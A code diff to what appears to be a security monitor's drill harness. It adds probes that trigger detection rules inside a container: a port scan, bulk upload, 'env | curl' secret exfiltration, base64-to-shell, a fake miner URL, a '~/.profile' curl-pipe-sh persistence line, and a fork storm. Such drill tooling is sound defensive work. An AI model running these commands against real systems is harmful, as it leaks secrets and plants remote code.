@@ -57,6 +57,8 @@ DNS_LABEL_LIMIT = 63  # RFC 1035
 MAX_PROBE_PROCESSES = 4000
 MAX_PROBE_READ_MB = 1024
 MAX_PROBE_DNS_QUERIES = 2000
+MAX_PROBE_UPLOAD_MB = 512
+SCAN_PORTS = 20  # rules.ScanWatch: 15 ports of one host within 5 s
 WATCH_TIMEOUT_SEC = 20.0  # the daemon lists containers once a second
 ADDRESS_TIMEOUT_SEC = 60.0  # DHCP in a booting container
 STALE_DRILL_SEC = 3600.0  # a drill container this old was left by a killed drill
@@ -110,7 +112,16 @@ PY_READ_AND_HOLD = (
     'python3 -c \'import sys, time; f = open(sys.argv[1], "rb"); '
     'list(iter(lambda: f.read(1 << 20), b"")); time.sleep(30)\' {home}/drill-read.bin'
 )
-SLEEPERS = "for i in $(seq {count}); do sleep 30 & done; wait"
+# forks that stay alive (a fork bomb's shape): python forks without exec, so the burst is
+# fast enough even on a busy machine (a shell loop starting `sleep` was not, under load)
+SLEEPERS = (
+    "python3 -c 'import os, sys, time\n"
+    "for _ in range(int(sys.argv[1])):\n"
+    "    if os.fork() == 0:\n"
+    "        time.sleep(30)\n"
+    "        os._exit(0)\n"
+    "time.sleep(30)' {count}"
+)
 
 PROBES: tuple[Probe, ...] = (
     Probe(
@@ -174,6 +185,63 @@ PROBES: tuple[Probe, ...] = (
         "warning",
     ),
     Probe(
+        "large read",
+        "read-file",
+        PY_READ_AND_HOLD,
+        frozenset({"fs.large-read-local", "fs.large-read"}),
+        "info",
+        setup="head -c {read_mb}M /dev/zero > {home}/drill-read.bin",
+    ),
+    Probe(
+        "port scan",
+        "connect-many-ports",
+        "python3 -c 'import socket, sys\n"
+        "for port in sys.argv[2:]:\n"
+        "    s = socket.socket(); s.settimeout(1); s.connect_ex((sys.argv[1], int(port)))\n"
+        "    s.close()' {gateway} {scan_ports}",
+        frozenset({"net.port-scan"}),
+        "high",
+    ),
+    Probe(
+        "upload volume",
+        "send-to-sink",
+        "python3 -c 'import socket, sys, time\n"
+        "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\n"
+        "for _ in range(int(sys.argv[3])): s.sendall(bytes(1 << 20))\n"
+        "time.sleep(30)' {gateway} {sink_port} {upload_mb}",
+        frozenset({"net.exfil-volume"}),
+        "high",
+    ),
+    Probe(
+        "secrets to the network",
+        "env-to-curl",
+        "env | curl -sS --max-time 5 --data-binary @- http://{gateway}:{sink_port}/drill",
+        frozenset({"exfil.secrets-to-network"}),
+        "high",
+    ),
+    Probe(
+        "decoded payload to a shell",
+        "base64-to-sh",
+        "echo ZWNobyBkcmlsbAo= | base64 -d | sh",  # runs `echo drill`
+        frozenset({"proc.decode-to-shell"}),
+        "warning",
+    ),
+    Probe(
+        "crypto miner",
+        "stratum-url",
+        "/bin/true --url stratum+tcp://drill.invalid:3333",  # true ignores its arguments
+        frozenset({"proc.miner"}),
+        "critical",
+    ),
+    Probe(
+        "persistence (start-up file)",
+        "profile-payload",
+        # ~/.profile: read by login shells only, and no probe starts one
+        "echo 'curl -fsS http://{gateway}:{shell_port}/drill | sh' >> {home}/.profile",
+        frozenset({"persist.shell-rc"}),
+        "high",
+    ),
+    Probe(
         "spawn storm",
         "fork-and-hold",
         SLEEPERS.replace("{count}", "{spawn_count}"),
@@ -186,14 +254,6 @@ PROBES: tuple[Probe, ...] = (
         SLEEPERS.replace("{count}", "{process_count}"),
         frozenset({"proc.count"}),
         "high",
-    ),
-    Probe(
-        "large read",
-        "read-file",
-        PY_READ_AND_HOLD,
-        frozenset({"fs.large-read-local", "fs.large-read"}),
-        "info",
-        setup="head -c {read_mb}M /dev/zero > {home}/drill-read.bin",
     ),
 )
 
@@ -328,6 +388,11 @@ def probe_values(
         reasons["process_count"] = f"process_count_threshold {limit} is above what a probe starts"
     else:
         values["process_count"] = str(limit + 20)
+    upload_mb = int(config.exfil_threshold_mb) + 5
+    if upload_mb > MAX_PROBE_UPLOAD_MB:
+        reasons["upload_mb"] = f"exfil_threshold_mb {config.exfil_threshold_mb:g} is too big"
+    else:
+        values["upload_mb"] = str(upload_mb)
     read_mb = int(config.file_read_threshold_mb) + 16
     if read_mb > MAX_PROBE_READ_MB:
         reasons["read_mb"] = f"file_read_threshold_mb {config.file_read_threshold_mb:g} is too big"
@@ -365,7 +430,8 @@ class Listener:
     """A TCP listener on the bridge address that accepts and holds connections (a probe's
     reverse shell waits on it; closing them ends the shell)."""
 
-    def __init__(self, address: str, port: int = 0) -> None:
+    def __init__(self, address: str, port: int = 0, sink: bool = False) -> None:
+        self.sink = sink  # read and discard what arrives (an upload probe's target)
         self.server = socket.socket()
         try:
             self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
@@ -387,6 +453,14 @@ class Listener:
                 return
             with self.lock:
                 self.conns.append(conn)
+            if self.sink:
+                threading.Thread(target=self._drain, args=(conn,), daemon=True).start()
+
+    @staticmethod
+    def _drain(conn: socket.socket) -> None:
+        with contextlib.suppress(OSError):
+            while conn.recv(1 << 16):
+                pass
 
     def drop_connections(self) -> None:
         with self.lock:
@@ -541,21 +615,29 @@ class Drill:
         control.start(self.home)
         events = MonitorEvents(control.socket_path(self.home))
         listeners: list[Listener] = []
+        held: list[socket.socket] = []
         report = DrillReport(self.name, self.settings.image)
         try:
             values, reasons = probe_values(self.config, gateway, dns_domain, self.code_home)
             if gateway:
-                shell = Listener(gateway)
-                listeners.append(shell)
-                values["shell_port"] = str(shell.port)
+                shell, sink = Listener(gateway), Listener(gateway, sink=True)
+                listeners += [shell, sink]
+                values["shell_port"], values["sink_port"] = str(shell.port), str(sink.port)
                 c2, why = open_c2_listener(gateway, self.config.c2_ports)
                 if c2 is None:
                     reasons["c2_port"] = why
                 else:
                     listeners.append(c2)
                     values["c2_port"] = str(c2.port)
+                # ports nothing listens on (bound here, so no host service answers): a scan
+                # gets refused at once
+                for _ in range(SCAN_PORTS):
+                    held.append(socket.socket())
+                    held[-1].bind((gateway, 0))
+                values["scan_ports"] = " ".join(str(h.getsockname()[1]) for h in held)
             else:
-                reasons["shell_port"] = reasons["c2_port"] = reasons["gateway"]
+                for name in ("shell_port", "sink_port", "c2_port", "scan_ports"):
+                    reasons[name] = reasons["gateway"]
             with self.container(events, needs_address=bool(gateway)):
                 for probe in self.probes:
                     result = self.run_probe(probe, values, reasons, events, listeners)
@@ -564,6 +646,8 @@ class Drill:
         finally:
             for listener in listeners:
                 listener.close()
+            for port in held:
+                port.close()
             events.close()
         report.duration_sec = time.monotonic() - started
         return report
